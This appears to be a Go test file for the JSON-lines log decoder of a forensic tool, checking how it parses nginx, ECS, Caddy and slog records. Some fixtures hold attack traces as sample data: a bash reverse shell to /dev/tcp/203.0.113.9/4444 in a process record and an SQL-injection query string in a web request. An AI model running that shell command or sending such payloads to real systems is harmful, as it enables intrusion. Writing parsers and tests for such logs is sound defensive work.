package jsonl

import (
	"encoding/json"
	"flag"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/kizuki-dfir/kizuki/event"
	"github.com/kizuki-dfir/kizuki/format"
	"github.com/kizuki-dfir/kizuki/format/formattest"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

func decodeLine(t testing.TB, opts format.Options, line string) event.Event {
	t.Helper()
	var got event.Event
	n := 0
	New(opts).Decode(line, event.Ref{Line: 1}, func(ev *event.Event) {
		got = *ev
		got.Extra = append([]event.KV(nil), ev.Extra...)
		n++
	})
	if n != 1 {
		t.Fatalf("Decode emitted %d events, want 1", n)
	}
	return got
}

func ts(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

func kv(pairs ...string) []event.KV {
	var out []event.KV
	for i := 0; i+1 < len(pairs); i += 2 {
		out = append(out, event.KV{Key: pairs[i], Value: pairs[i+1]})
	}
	return out
}

func TestDecode(t *testing.T) {
	tests := []struct {
		name string
		line string
		want event.Event // Raw and Ref are filled in from line
	}{
		{
			// nginx 1.22 log_format ... escape=json, captured (testdata/README.md).
			name: "nginx escape=json",
			line: `{"time_local":"22/Nov/2026:22:33:11 +0000","time_iso8601":"2026-11-22T22:33:11+00:00","msec":1795386791.542,"remote_addr":"127.0.0.1","remote_user":"admin","request":"GET /wp-login.php HTTP/1.1","request_method":"GET","request_uri":"/wp-login.php","status":404,"body_bytes_sent":153,"request_time":0.000,"http_referer":"","http_user_agent":"curl/7.88.1","http_x_forwarded_for":"198.51.100.7, 10.0.0.1"}`,
			want: event.Event{Time: ts("2026-11-22T22:33:11Z"), Kind: event.KindWeb, Dataset: "web.access", Action: "http_request",
				SourceIP: "127.0.0.1", User: "admin", Method: "GET", URL: "/wp-login.php", HTTPVersion: "1.1", Status: 404, Bytes: 153,
				UserAgent: "curl/7.88.1",
				Extra:     kv("time_iso8601", "2026-11-22T22:33:11+00:00", "msec", "1795386791.542", "http.request.time", "0.000", "http.request.x_forwarded_for", "198.51.100.7, 10.0.0.1")},
		},
		{
			// nginx without escape=json writes \xHH escapes, which are not JSON
			// but are what such logs hold; captured from nginx 1.22.
			name: "nginx escape=default",
			line: `{"time_local":"22/Nov/2026:22:33:11 +0000","remote_addr":"127.0.0.1","request":"GET /index.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1","status":"404","body_bytes_sent":"153","http_referer":"http://evil.example/\x22x","http_user_agent":"Mozilla/5.0 (X11; Linux x86_64) \x22quoted\x22 \x5Cback"}`,
			want: event.Event{Time: ts("2026-11-22T22:33:11Z"), Kind: event.KindWeb, Dataset: "web.access", Action: "http_request",
				SourceIP: "127.0.0.1", Method: "GET", URL: "/index.php?id=1%27%20OR%20%271%27=%271", HTTPVersion: "1.1", Status: 404, Bytes: 153,
				Referrer: `http://evil.example/"x`, UserAgent: `Mozilla/5.0 (X11; Linux x86_64) "quoted" \back`},
		},
		{
			// TLS bytes sent to a plain-HTTP port: nginx logs them as the request.
			name: "nginx 400 with a binary request line",
			line: `{"time_local":"22/Nov/2026:22:33:12 +0000","remote_addr":"127.0.0.1","request":"\x16\x03\x01garbage","status":"400","body_bytes_sent":"157","http_referer":"-","http_user_agent":"-"}`,
			want: event.Event{Time: ts("2026-11-22T22:33:12Z"), Kind: event.KindWeb, Dataset: "web.access", Action: "http_request",
				SourceIP: "127.0.0.1", Status: 400, Bytes: 157, UserAgent: "-", Extra: kv("http.request.line", "\x16\x03\x01garbage")},
		},
		{
			// An ECS document as Filebeat/Elastic Agent ship them (ECS reference,
			// "Event Fields", "HTTP Fields", "Source Fields").
			name: "ecs",
			line: `{"@timestamp":"2025-05-19T03:12:44.123Z","event":{"dataset":"nginx.access","category":"web","outcome":"failure"},"source":{"ip":"::ffff:203.0.113.9","port":51234},"http":{"request":{"method":"POST","referrer":"https://example.com/"},"response":{"status_code":401,"body":{"bytes":512}},"version":"1.1"},"url":{"original":"/login"},"user_agent":{"original":"Mozilla/5.0"},"user":{"name":"alice"},"host":{"name":"web1"},"tags":["a", "b"],"labels":{}}`,
			want: event.Event{Time: ts("2025-05-19T03:12:44.123Z"), Kind: event.KindWeb, Dataset: "nginx.access", Action: "http_request", Outcome: event.OutcomeFailure,
				Host: "web1", SourceIP: "203.0.113.9", SourcePort: 51234, User: "alice", Method: "POST", URL: "/login", HTTPVersion: "1.1",
				Status: 401, Bytes: 512, UserAgent: "Mozilla/5.0", Referrer: "https://example.com/",
				Extra: kv("event.category", "web", "tags", `["a", "b"]`)},
		},
		{
			// Caddy 2's access log (Caddy docs, "log" directive, example output).
			name: "caddy",
			line: `{"level":"info","ts":1747624364.123456,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.9","remote_port":"51234","proto":"HTTP/2.0","method":"GET","host":"example.com","uri":"/admin?x=1","headers":{"User-Agent":["curl/8.5.0"]}},"bytes_read":0,"duration":0.000123,"size":12,"status":404,"resp_headers":{"Server":["Caddy"]}}`,
			want: event.Event{Time: ts("2025-05-19T03:12:44.123456Z"), Kind: event.KindWeb, Dataset: "web.access", Action: "http_request",
				Level: "info", Message: "handled request", SourceIP: "203.0.113.9", Method: "GET", URL: "/admin?x=1", HTTPVersion: "2.0", Status: 404,
				Extra: kv("logger", "http.log.access.log0", "request.remote_port", "51234", "request.host", "example.com",
					"request.headers.User-Agent", `["curl/8.5.0"]`, "bytes_read", "0", "duration", "0.000123", "size", "12",
					"resp_headers.Server", `["Caddy"]`)},
		},
		{
			// Go log/slog JSONHandler output; a time without a zone would use
			// Options.Location, this one has its own offset.
			name: "slog",
			line: `{"time":"2025-05-19T12:12:44.5+09:00","level":"WARN","msg":"login failed","user":{"name":"bob"},"attempts":3,"locked":false,"reason":null,"path":"C:\\temp\u00e9\ud83d\ude00"}`,
			want: event.Event{Time: ts("2025-05-19T03:12:44.5Z"), Kind: event.KindSystem, Dataset: "jsonl", Level: "WARN", Message: "login failed",
				User: "bob", Extra: kv("attempts", "3", "locked", "false", "path", "C:\\tempé😀")},
		},
		{
			// ECS 8 event.category is an array (ECS reference, "event.category").
			name: "ecs category array",
			line: `{"@timestamp":"2025-05-19T03:12:44Z","event":{"category":["authentication","network"],"outcome":"failure"},"user":{"name":"root"},"source":{"ip":"198.51.100.23"}}`,
			want: event.Event{Time: ts("2025-05-19T03:12:44Z"), Kind: event.KindAuth, Dataset: "jsonl", Outcome: event.OutcomeFailure,
				User: "root", SourceIP: "198.51.100.23", Extra: kv("event.category", `["authentication","network"]`)},
		},
		{
			name: "process and lower-ranked time kept",
			line: `{"timestamp":"2025-05-19 03:12:44","@timestamp":"2025-05-19T03:12:45Z","process":{"command_line":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1","pid":"4242"}}`,
			want: event.Event{Time: ts("2025-05-19T03:12:45Z"), Kind: event.KindProcess, Dataset: "jsonl",
				CommandLine: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", PID: 4242, Extra: kv("timestamp", "2025-05-19 03:12:44")},
		},
		{
			name: "non-numeric status and a host name as address",
			line: `{"status":"ok","remote_addr":"unix:","ts":"soon"}`,
			want: event.Event{Kind: event.KindWeb, Dataset: "web.access", Action: "http_request",
				Extra: kv("status", "ok", "remote_addr", "unix:", "ts", "soon")},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := decodeLine(t, format.Options{}, tt.line)
			tt.want.Raw, tt.want.Ref = tt.line, event.Ref{Line: 1}
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func TestByteOrderMark(t *testing.T) {
	line := "\ufeff" + `{"msg":"first line"}`
	if got := decodeLine(t, format.Options{}, line); got.Kind == event.KindRaw || got.Message != "first line" || got.Raw != line {
		t.Errorf("got kind %v, message %q, raw %q; want the BOM skipped and kept in Raw", got.Kind, got.Message, got.Raw)
	}
}

func TestZonelessTimeUsesLocation(t *testing.T) {
	jst := time.FixedZone("JST", 9*3600)
	got := decodeLine(t, format.Options{Location: jst}, `{"timestamp":"2025-05-19 12:12:44.25"}`)
	if want := ts("2025-05-19T03:12:44.25Z"); !got.Time.Equal(want) {
		t.Errorf("time %v, want %v", got.Time, want)
	}
}

func TestRaw(t *testing.T) {
	deep := strings.Repeat(`{"a":`, maxDepth+1) + "1" + strings.Repeat("}", maxDepth+1)
	deepArray := `{"a":` + strings.Repeat("[", maxDepth+1) + strings.Repeat("]", maxDepth+1) + "}"
	longKey := `{"` + strings.Repeat("k", maxKey+1) + `":1}`
	for _, line := range []string{
		``, `   `, `[1,2]`, `"str"`, `{"a":1`, `{"a":1} x`, `{"a":1}{"b":2}`, `{a:1}`, `{"a":01}`, `{"a":1.}`,
		`{"a":"\q"}`, `{"a":"\u12"}`, `{"a":"\x4"}`, "{\"a\":\"tab\there\"}", `{"a":tru}`, `{"a":[1,]}`, `{"a":1,}`,
		`{"a" 1}`, `{"a":-}`, "\xff\xfe{}", deep, deepArray, longKey,
	} {
		got := decodeLine(t, format.Options{}, line)
		if got.Kind != event.KindRaw || got.Raw != line || len(got.Extra) != 0 {
			t.Errorf("%.60q: kind %v, extra %v; want a raw event", line, got.Kind, got.Extra)
		}
	}
	// Nesting up to the cap is fine.
	ok := strings.Repeat(`{"a":`, maxDepth) + "1" + strings.Repeat("}", maxDepth)
	if got := decodeLine(t, format.Options{}, ok); got.Kind == event.KindRaw {
		t.Errorf("nesting of %d decoded raw, want decoded", maxDepth)
	}
}

// TestECSNames checks that every typed field's ECS name is read into its
// field, so that a JSON document written from an Event reads back.
func TestECSNames(t *testing.T) {
	for _, name := range event.FieldNames() {
		f, _ := event.LookupField(name)
		var val string
		switch {
		case f == event.FieldRaw, f == event.FieldKind:
			continue // event.original is kept in Extra (Raw is the line); event.category is tested above
		case f == event.FieldTimestamp:
			val = `"2025-05-19T03:12:44Z"`
		case f == event.FieldOutcome:
			val = `"success"`
		case f.Numeric():
			val = "42"
		case f == event.FieldSourceIP:
			val = `"192.0.2.1"`
		default:
			val = `"v"`
		}
		ev := decodeLine(t, format.Options{}, `{"`+name+`":`+val+`}`)
		if got, ok := ev.Value(f); !ok || (got != strings.Trim(val, `"`) && f != event.FieldTimestamp) {
			t.Errorf("%s: field value %q (set %v), want %s; extra %v", name, got, ok, val, ev.Extra)
		}
		if len(ev.Extra) != 0 {
			t.Errorf("%s: also in Extra: %v", name, ev.Extra)
		}
	}
}

func TestGolden(t *testing.T) {
	for _, in := range []string{"nginx-1.22-escape-json.log", "nginx-1.22-escape-default.log"} {
		lines := formattest.ReadLines(t, filepath.Join("testdata", in))
		var b strings.Builder
		d := New(format.Options{})
		for i, l := range lines {
			d.Decode(l, event.Ref{Line: int64(i + 1)}, func(ev *event.Event) {
				if ev.Kind != event.KindWeb {
					t.Errorf("%s:%d: kind %v, want web", in, i+1, ev.Kind)
				}
				j, err := json.Marshal(struct {
					Time                          time.Time
					Kind, Dataset, SourceIP, User string
					Method, URL, HTTPVersion      string
					Status                        int
					Bytes                         int64
					UserAgent, Referrer           string
					Extra                         []event.KV
				}{ev.Time, ev.Kind.String(), ev.Dataset, ev.SourceIP, ev.User, ev.Method, ev.URL, ev.HTTPVersion,
					ev.Status, ev.Bytes, ev.UserAgent, ev.Referrer, ev.Extra})
				if err != nil {
					t.Fatal(err)
				}
				b.Write(j)
				b.WriteByte('\n')
			})
		}
		path := filepath.Join("testdata", in+".golden")
		formattest.Golden(t, path, []byte(b.String()), *update)
	}
}

func TestSniff(t *testing.T) {
	lines := formattest.ReadLines(t, "testdata/nginx-1.22-escape-json.log")
	if f, score := format.Sniff(lines); f == nil || f.Name != "jsonl" || score != 100 {
		t.Errorf("Sniff = %v, %d; want jsonl, 100", f, score)
	}
	if f, _ := format.Sniff([]string{"Nov 22 22:33:11 host sshd[1]: Accepted password for x", "{not json"}); f != nil {
		t.Errorf("Sniff(syslog) = %v, want none", f.Name)
	}
}

// ecsLine is an ECS document of the shape Filebeat ships (nested objects).
const ecsLine = `{"@timestamp":"2025-05-19T03:12:44.123Z","event":{"dataset":"nginx.access","category":["web"],"outcome":"failure"},"source":{"ip":"203.0.113.9","port":51234},"http":{"request":{"method":"POST","referrer":"https://example.com/"},"response":{"status_code":401,"body":{"bytes":512}},"version":"1.1"},"url":{"original":"/login"},"user_agent":{"original":"Mozilla/5.0 (X11; Linux x86_64)"},"user":{"name":"alice"},"host":{"name":"web1"},"agent":{"type":"filebeat","version":"8.13.0"}}`

func BenchmarkDecode(b *testing.B) {
	for _, in := range []string{"nginx-1.22-escape-json.log", "nginx-1.22-escape-default.log", "ecs"} {
		b.Run(in, func(b *testing.B) {
			var lines []string
			if in == "ecs" {
				lines = []string{ecsLine}
			} else {
				lines = formattest.ReadLines(b, filepath.Join("testdata", in))
			}
			var size int64
			for _, l := range lines {
				size += int64(len(l)) + 1
			}
			d := New(format.Options{})
			emit := func(*event.Event) {}
			b.SetBytes(size)
			b.ReportAllocs()
			for b.Loop() {
				for i, l := range lines {
					d.Decode(l, event.Ref{Line: int64(i + 1)}, emit)
				}
			}
		})
	}
}

// leaves flattens a document with the scanner, as the decoder sees it.
func leaves(line string) (map[string]string, bool) {
	m := map[string]string{}
	dup := false
	sc := &scanner{s: line}
	sc.leaf = func(k, v string, typ byte) {
		if k == "" {
			k = string(sc.kb)
		}
		if _, ok := m[k]; ok {
			dup = true
		}
		if typ == '[' {
			v = "[array]"
		}
		m[k] = v
	}
	sc.ws()
	if sc.i >= len(line) || line[sc.i] != '{' || !sc.object(0) {
		return nil, false
	}
	if sc.ws(); sc.i != len(line) {
		return nil, false
	}
	if dup {
		return nil, true
	}
	return m, true
}

// flatten is the reference: encoding/json's reading of the same document.
func flatten(prefix string, v any, out map[string]string) {
	switch x := v.(type) {
	case map[string]any:
		for k, e := range x {
			if prefix != "" {
				k = prefix + "." + k
			}
			flatten(k, e, out)
		}
	case []any:
		out[prefix] = "[array]"
	case nil:
	case string:
		out[prefix] = x
	case json.Number:
		out[prefix] = string(x)
	case bool:
		if x {
			out[prefix] = "true"
		} else {
			out[prefix] = "false"
		}
	}
}

// FuzzScanner checks the scanner against encoding/json: on valid UTF-8
// without nginx \x escapes, both accept the same objects and find the same
// leaves.
func FuzzScanner(f *testing.F) {
	for _, in := range []string{"nginx-1.22-escape-json.log", "nginx-1.22-escape-default.log"} {
		for _, l := range formattest.ReadLines(f, filepath.Join("testdata", in)) {
			f.Add(l)
		}
	}
	f.Add(`{"a":{"b":[1,{"c":2}],"d":"\ud83d\ude00\u00e9"},"e":-1.5e3,"f":null}`)
	f.Fuzz(func(t *testing.T, line string) {
		mine, ok := leaves(line)
		if strings.Contains(line, `\x`) || !utf8.ValidString(line) {
			return // lenient on purpose (nginx escapes, raw bytes)
		}
		dec := json.NewDecoder(strings.NewReader(line))
		dec.UseNumber()
		var v any
		err := dec.Decode(&v)
		_, isObj := v.(map[string]any)
		valid := json.Valid([]byte(line)) && err == nil && isObj
		if ok != valid {
			if !ok && valid && (strings.Count(line, "{")+strings.Count(line, "[") > maxDepth || len(line) > maxKey) {
				return // our caps, not a disagreement
			}
			t.Fatalf("scanner ok=%v, encoding/json valid object=%v for %q", ok, valid, line)
		}
		if !ok || mine == nil {
			return
		}
		want := map[string]string{}
		flatten("", v, want)
		keys := func(m map[string]string) []string {
			var k []string
			for x := range m {
				k = append(k, x)
			}
			sort.Strings(k)
			return k
		}
		if len(keys(want)) != len(keys(mine)) {
			return // flattened-key collisions ("a.b" and {"a":{"b"}}) differ by design
		}
		if d := cmp.Diff(want, mine); d != "" {
			t.Fatalf("leaves of %q differ from encoding/json (-want +got):\n%s", line, d)
		}
	})
}

// FuzzDecode checks that any line yields exactly one event holding the line.
func FuzzDecode(f *testing.F) {
	for _, l := range formattest.ReadLines(f, "testdata/nginx-1.22-escape-default.log") {
		f.Add(l)
	}
	d := New(format.Options{})
	f.Fuzz(func(t *testing.T, line string) {
		n := 0
		d.Decode(line, event.Ref{}, func(ev *event.Event) {
			n++
			if ev.Raw != line {
				t.Fatalf("Raw %q, want the line %q", ev.Raw, line)
			}
		})
		if n != 1 {
			t.Fatalf("%d events, want 1", n)
		}
	})
}

// FuzzFastTime checks the hand-written time parser against time.Parse with
// the layouts it stands in for.
func FuzzFastTime(f *testing.F) {
	for _, v := range []string{"2025-05-19T03:12:44.123+09:00", "2025-05-19 03:12:44", "2025-05-19T03:12:44Z",
		"19/May/2025:03:12:44 +0900", "2024-02-29T00:00:00.123456789-05:30", "2025-02-29T00:00:00Z"} {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) {
		got, ok := fastTime(v, time.UTC)
		if !ok || strings.ContainsAny(v, ",z") {
			return
		}
		for _, l := range []string{time.RFC3339Nano, "2006-01-02 15:04:05.999999999Z07:00", "02/Jan/2006:15:04:05 -0700",
			"2006-01-02T15:04:05.999999999", "2006-01-02 15:04:05.999999999"} {
			if want, err := time.Parse(l, v); err == nil {
				if !want.Equal(got) {
					t.Fatalf("fastTime(%q) = %v, time.Parse(%q) = %v", v, got, l, want)
				}
				return
			}
		}
		t.Fatalf("fastTime(%q) = %v, but time.Parse rejects it", v, got)
	})
}
